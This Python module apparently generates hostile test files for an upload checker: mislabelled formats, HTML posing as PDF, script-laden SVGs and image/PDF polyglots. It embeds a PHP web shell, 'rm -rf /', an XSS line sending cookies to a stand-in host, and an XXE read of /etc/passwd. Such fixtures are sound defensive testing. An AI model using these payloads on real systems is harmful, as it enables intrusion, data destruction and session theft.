"""Files that are something else than they say, or two things at once."""

from __future__ import annotations

import io
import zipfile
from random import Random

from tests.uploads.papers import JPEG, PDF, PNG, chunk, pdf, picture

Made = tuple[str, bytes, str | None]
_HEADS = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff",
    b"\x7fELF\x02\x01\x01\x00",
    b"PK\x03\x04\x14\x00\x06\x00",
    b"GIF89a\x01\x00\x01\x00",
    b"BM\x46\x00\x00\x00",
    b"II*\x00\x08\x00\x00\x00",
    b"RIFF\x24\x00\x00\x00WEBPVP8 ",
    b"\x00\x00\x00\x18ftypheic",
    b"Rar!\x1a\x07\x01\x00",
    b"7z\xbc\xaf\x27\x1c",
    b"\x1f\x8b\x08\x00",
    b"\xca\xfe\xba\xbe",
    b"#!/bin/sh\nrm -rf /\n",
    b"<?php system($_GET['c']); ?>",
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    b"{\\rtf1\\ansi",
    b"%!PS-Adobe-3.0\n",
    b"\xff\xd8",
    b"\x89PNG\n\x1a\n",
    b"%pdf-1.7\n",
    b"\x00%PDF-1.7\n",
    b"\xef\xbb\xbf%PDF-1.7\n",
)
_ENDINGS = ("pdf", "jpg", "png", "PDF", "jpeg", "pdf.exe", "php", "docx", "")
_SCRIPT = b"<script>alert(document.cookie)</script>"


def wrong_magic(random: Random, index: int) -> Made:
    """Other formats under honest names, and heads that are nearly right."""
    ending = _ENDINGS[index % len(_ENDINGS)]
    content = _HEADS[index % len(_HEADS)] + random.randbytes(random.randint(0, 3000))
    return f"giay to {index}.{ending}".rstrip("."), content, None


def page_as_pdf(random: Random, index: int) -> Made:
    """HTML that carries the mark of a PDF where lenient readers still find it."""
    before = b" " * random.randint(0, 40) + b"\r\n" * random.randint(0, 3)
    page = b"<!DOCTYPE html><html><body>" + _SCRIPT + b"</body>"
    hidden = (b"", b"<!-- ", b"<pre>")[index % 3] + pdf()
    return f"don-{index}.pdf", before + page + hidden, None


def svg(random: Random, index: int) -> Made:
    """Drawings that run a script in whoever shows them."""
    active = (
        b"<script>fetch('//x.example/'+document.cookie)</script>",
        b"<image href='x' onerror='alert(1)'/>",
        b"<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'>" + _SCRIPT + b"</body></foreignObject>",
        b"<use href='data:image/svg+xml;base64,PHN2Zy8+#x'/>",
        b"<a href='javascript:alert(1)'><text>x</text></a>",
    )[index % 5]
    head = (
        b"",
        b"<?xml version='1.0'?>",
        b"\xef\xbb\xbf",
        b"<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
    )
    content = (
        head[index % 4] + b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>" + active + b"</svg>"
    )
    return f"anh-{random.randint(1, 999)}.{('svg', 'png', 'jpg', 'svg.png')[index % 4]}", content, None


def polyglot(random: Random, index: int) -> Made:
    """Two formats in one file; it may be kept as what its beginning says, and is that."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr(zipfile.ZipInfo("x.html"), _SCRIPT * random.randint(1, 20))
    tails = (
        archive.getvalue(),
        _SCRIPT,
        b"<?php phpinfo(); ?>",
        pdf(),
        b"\x00" * 200 + b"MZ" + random.randbytes(64),
    )
    tail = tails[index % len(tails)]
    jpeg, png = picture("JPEG", random), picture("PNG", random)
    kind = index % 6
    if kind == 0:
        return "anh.jpg", jpeg + tail, JPEG
    if kind == 1:
        return "anh.png", png + tail, PNG
    if kind == 2:
        comment = b"\xff\xfe" + (len(_SCRIPT) + 2).to_bytes(2, "big") + _SCRIPT
        return "anh.html", jpeg[:2] + comment + jpeg[2:], JPEG
    if kind == 3:
        return "anh.php", png[:-12] + chunk(b"tEXt", b"Comment\0<?php system('id'); ?>") + png[-12:], PNG
    if kind == 4:
        return "to-khai.pdf", pdf(tail=tail[:200]), PDF
    # So much behind its end that the document is no longer one.
    return "to-khai.html", pdf(tail=tail + random.randbytes(3000)), None
